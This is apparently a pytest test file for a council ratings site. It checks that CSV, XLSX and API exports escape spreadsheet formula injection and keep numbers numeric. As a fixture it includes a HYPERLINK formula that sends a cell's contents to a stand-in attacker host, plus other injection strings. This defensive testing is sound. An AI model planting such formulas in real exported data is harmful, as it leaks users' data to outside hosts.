"""Downloads a spreadsheet opens never run a cell as a formula (CSV injection, OWASP): the
league table's CSV and XLSX and the API's CSV put an apostrophe before text that starts
with "=", "+", "-", "@", a tab or a carriage return, through one function,
``ratings.downloads.spreadsheet_cell``. Numbers stay numbers."""

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from rest_framework.test import APIClient

from api.renderers import CSVRenderer
from ratings.downloads import spreadsheet_cell

from .factories import AssessmentRoundFactory, CouncilFactory, RegionFactory, rate_councils

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    # council name: region name
    HYPERLINK: "@SUM(1)",
    "+1 Borough": "-North",
    "-2 Borough": "\tTabbed",
    "\rCarriage": "=1+1",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("-North", "'-North"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Barnet", "Barnet"),
        ("St. Helens = good", "St. Helens = good"),
        ("'=1+1", "'=1+1"),
        ("", ""),
        (-3, -3),
        (-1.5, -1.5),
        (Decimal("-2.500"), Decimal("-2.500")),
        (0, 0),
        (None, None),
        (True, True),
    ],
)
def test_text_a_spreadsheet_would_run_is_neutralised_and_numbers_are_left(value, cell):
    assert spreadsheet_cell(value) == cell
    assert type(spreadsheet_cell(value)) is type(cell)


@pytest.fixture
def hostile_round(db):
    councils = {
        name: CouncilFactory(name=name, slug=f"hostile-{i}", region=RegionFactory(name=region))
        for i, (name, region) in enumerate(HOSTILE.items())
    }
    round = AssessmentRoundFactory(year=2004)
    rate_councils(round, councils, dict.fromkeys(HOSTILE, ("yes", "excellent", "yes", "excellent")))
    return councils


def test_league_table_csv_neutralises_formulas(client, hostile_round):
    response = client.get("/ratings/2004/", {"_export": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    got = {row["council"]: row["region"] for row in rows}
    assert got == {f"'{name}": f"'{region}" for name, region in HOSTILE.items()}
    assert {row["stars"] for row in rows} == {"3"}


def test_league_table_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers(
    client, hostile_round
):
    response = client.get("/ratings/2004/", {"_export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    council, region, stars = (header.index(name) for name in ("council", "region", "stars"))
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for cell in (row[council], row[region]):
            assert cell.data_type == "s", cell.value  # "f" would be a formula
            assert cell.value.startswith("'"), cell.value
        assert row[stars].data_type == "n"
        assert row[stars].value == 3
    # (XML reads a carriage return back as a line feed.)
    assert {row[council].value for row in rows} == {
        f"'{name}".replace("\r", "\n") for name in HOSTILE
    }


def test_league_table_json_is_data_and_keeps_the_names_as_they_are(client, hostile_round):
    rows = json.loads(client.get("/ratings/2004/", {"_export": "json"}).content)
    assert {row["council"] for row in rows} == set(HOSTILE)


def test_api_csv_neutralises_formulas(hostile_round):
    api = APIClient()
    rows = list(csv.DictReader(io.StringIO(api.get("/api/councils/?format=csv").content.decode())))
    assert {row["name"]: row["region"] for row in rows} == {
        f"'{name}": f"'{region}" for name, region in HOSTILE.items()
    }
    ratings = api.get("/api/rounds/2004/ratings/?format=csv").content.decode()
    assert {row["stars"] for row in csv.DictReader(io.StringIO(ratings))} == {"3"}
    # JSON is data: the names as they are.
    names = {council["name"] for council in api.get("/api/councils/").json()["results"]}
    assert names == set(HOSTILE)


def test_api_csv_keeps_negative_numbers_as_numbers_and_neutralises_text():
    text = CSVRenderer().render(
        [{"change_points": -2.5, "count": -3, "share": Decimal("-0.5"), "name": "-2.5"}]
    )
    assert text.decode().splitlines() == ["change_points,count,share,name", "-2.5,-3,-0.5,'-2.5"]
    # Joined into one cell, a list's numbers are text.
    assert CSVRenderer().render([{"cuts": [-1, 2]}]).decode().splitlines()[1] == "'-1; 2"
